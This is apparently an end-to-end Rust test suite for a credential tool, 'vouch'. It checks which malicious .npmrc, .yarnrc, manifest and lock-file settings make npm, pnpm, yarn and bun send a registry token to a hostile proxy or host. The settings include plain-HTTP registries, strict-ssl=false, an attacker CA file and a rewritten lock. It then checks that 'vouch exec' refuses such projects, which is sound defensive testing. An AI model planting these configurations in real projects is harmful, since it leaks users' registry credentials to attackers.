//! What a project can make npm, pnpm, yarn 1 and bun do with the token, and that `vouch exec` does not start them where a file of
//! the project has it sent. `docs/untrusted-projects.md` has the table that is compared here, cell by cell; yarn 4 has tests
//! of its own.

use std::fs;

use vouch_e2e::doc_tables::Table;
use vouch_e2e::hostile::HostileHost;
use vouch_e2e::node::{self, Client, REGISTRY};
use vouch_e2e::{CommandOutput, Run, Sandbox, in_sandbox};

const HEADING: &str = "npm, pnpm, yarn 1 and bun";

/// What a project does, in the words of the page.
const HTTP_REGISTRY: &str = "`.npmrc` names your registry over plain HTTP";
const HTTP_DEPENDENCY: &str = "a dependency is a URL of your registry over plain HTTP";
const STRICT_SSL: &str = "`.npmrc` has `strict-ssl=false` and a proxy";
const CAFILE: &str = "`.npmrc` has `cafile` and a proxy";
const YARNRC: &str = "`.yarnrc` has `strict-ssl false` and a proxy";
const LOCK: &str = "the lock file names another host";
const OWN_PROXY: &str = "nothing: you go through a plain HTTP proxy";

struct Attack<'a> {
    sandbox: &'a Sandbox,
    client: Client,
    hostile: &'a HostileHost,
    /// On the port of plain HTTP.
    plain: &'a HostileHost,
    table: &'a Table,
}

impl Attack<'_> {
    /// A new project with these files, in a home that has nothing in its caches.
    fn project(&self, files: &[(&str, &str)]) {
        node::fresh_project(self.sandbox, self.client, "app");
        for (name, text) in files {
            self.sandbox.write(&format!("app/{name}"), text);
        }
    }

    fn run(&self, args: &[&str]) -> Run {
        // The sandbox's authority is known to Node itself, too: a file may name another one.
        let run = self.client.prepared(self.sandbox, "--unset=npm_config_cafile").arg(self.client.program());
        // One refusal is enough.
        let run = run.args(args).env("npm_config_fetch_retries", "0").env("CI", "1");
        run.within(self.sandbox.file("app"))
    }

    /// Compares what arrived with the page.
    fn compare(&self, what: &str, done: &CommandOutput) {
        let heads = [self.hostile.arrived(), self.plain.arrived()].concat();
        let sent = heads.iter().any(|head| HostileHost::has_token(head));
        let told = self.table.cell(what, self.client.0);
        let client = self.client.0;
        match told {
            "sent" => assert!(sent, "{client}, {what}: {heads:?}\n{done}"),
            "held" => {
                assert!(!sent, "{client}, {what}: {heads:?}\n{done}");
                // It was led there, or it refused.
                assert!(!heads.is_empty() || done.code != 0, "{client}, {what}: it showed nothing\n{done}");
            }
            "not read" => assert!(heads.is_empty() && done.code == 0, "{client}, {what}: {heads:?}\n{done}"),
            other => panic!("{other}"),
        }
    }

    /// The same for what the first of these files does.
    fn compare_files(&self, what: &str, files: &[(&str, &str)], args: &[&str]) {
        self.project(files);
        let done = self.run(args).done();
        self.compare(what, &done);
        if self.table.cell(what, self.client.0) == "sent" {
            let exec =
                self.client.prepared(self.sandbox, "vouch").args(["exec", "--type", "codeartifact", "--"]);
            let exec = exec.arg(self.client.program()).args(args).within(self.sandbox.file("app")).fails(125);
            let file = self.sandbox.file("app").join(files[0].0);
            let exec = exec.says("was not started: this project would give the token away");
            let _ = exec.says(&format!("`{}` line ", file.display())).says("--trust-project=");
            let heads = [self.hostile.arrived(), self.plain.arrived()].concat();
            assert_eq!(heads, Vec::<String>::new(), "{what}");
        }
    }

    fn installs_left(&self, what: &str, files: &[(&str, &str)]) {
        self.compare_files(what, files, &self.client.adding(&["left"]));
    }

    /// With an honest lock in which the registry is another host.
    fn lock_elsewhere(&self) {
        self.project(&[]);
        let _ = self.run(&self.client.adding(&["left"])).ok();
        let names = ["package-lock.json", "pnpm-lock.yaml", "yarn.lock", "bun.lock"];
        let name = names.into_iter().find(|name| self.sandbox.file(&format!("app/{name}")).exists());
        let name = format!("app/{}", name.expect("a lock"));
        let lock = self.sandbox.read(&name);
        let there = format!("{}/npm/{}/", self.hostile.url(), node::REPOSITORY);
        let tarball = format!("resolution: {{tarball: {there}left/-/left-1.0.0.tgz, integrity");
        let evil = match self.client.program() {
            "pnpm" => lock.replace("resolution: {integrity", &tarball),
            _ => lock.replace(REGISTRY, &there),
        };
        let manifest = self.sandbox.read("app/package.json");
        self.project(&[]);
        self.sandbox.write("app/package.json", &manifest);
        self.sandbox.write(&name, &evil);
        assert_ne!(evil, lock, "{lock}");
        let done = self.run(&["install"]).done();
        self.compare(LOCK, &done);
    }
}

fn matrix(client: Client) {
    in_sandbox(&[], |sandbox| {
        sandbox.enroll();
        sandbox.log_in();
        let _ = client.set_up(sandbox, &[]).ok();
        node::publish_three(sandbox, client);
        let (hostile, plain) = (HostileHost::start(), HostileHost::start_plain());
        let table = Table::of("untrusted-projects.md", HEADING);
        let attack = Attack { sandbox, client, hostile: &hostile, plain: &plain, table: &table };
        let http = REGISTRY.replace("https://", "http://");
        let proxy = hostile.url();
        sandbox.write("evil.pem", hostile.certificate());
        let pem = sandbox.file("evil.pem");

        attack.installs_left(HTTP_REGISTRY, &[(".npmrc", &format!("registry={http}\n"))]);
        attack.installs_left(
            STRICT_SSL,
            &[(".npmrc", &format!("https-proxy={proxy}\nproxy={proxy}\nstrict-ssl=false\n"))],
        );
        attack.installs_left(
            CAFILE,
            &[(".npmrc", &format!("https-proxy={proxy}\nproxy={proxy}\ncafile={}\n", pem.display()))],
        );
        attack.installs_left(YARNRC, &[(".yarnrc", &format!("https-proxy \"{proxy}\"\nstrict-ssl false\n"))]);
        let manifest = format!(
            "{{\"name\": \"app\", \"version\": \"1.0.0\", \"dependencies\": {{\"left\": \"{http}left/-/left-1.0.0.tgz\"}}}}"
        );
        attack.compare_files(HTTP_DEPENDENCY, &[("package.json", &manifest)], &["install"]);
        attack.lock_elsewhere();
        attack.project(&[]);
        let through =
            attack.run(&client.adding(&["left"])).env("HTTPS_PROXY", &proxy).env("https_proxy", &proxy);
        let done = through.done();
        attack.compare(OWN_PROXY, &done);
        let known = [HTTP_REGISTRY, STRICT_SSL, CAFILE, YARNRC, HTTP_DEPENDENCY, LOCK, OWN_PROXY];
        assert!(table.rows().all(|row| known.contains(&row)), "the page has a row without a test");
        fs::remove_file(pem).unwrap();
    });
}

#[test]
fn npm_8() {
    matrix(Client("npm-8"));
}

#[test]
fn npm_10() {
    matrix(Client("npm-10"));
}

#[test]
fn npm_11() {
    matrix(Client("npm-11"));
}

#[test]
fn npm_12() {
    matrix(Client("npm-12"));
}

#[test]
fn pnpm_10() {
    matrix(Client("pnpm-10"));
}

#[test]
fn pnpm_11() {
    matrix(Client("pnpm-11"));
}

#[test]
fn pnpm_12() {
    matrix(Client("pnpm-12"));
}

#[test]
fn yarn_1() {
    matrix(Client("yarn-1"));
}

#[test]
fn bun() {
    matrix(Client("bun"));
}
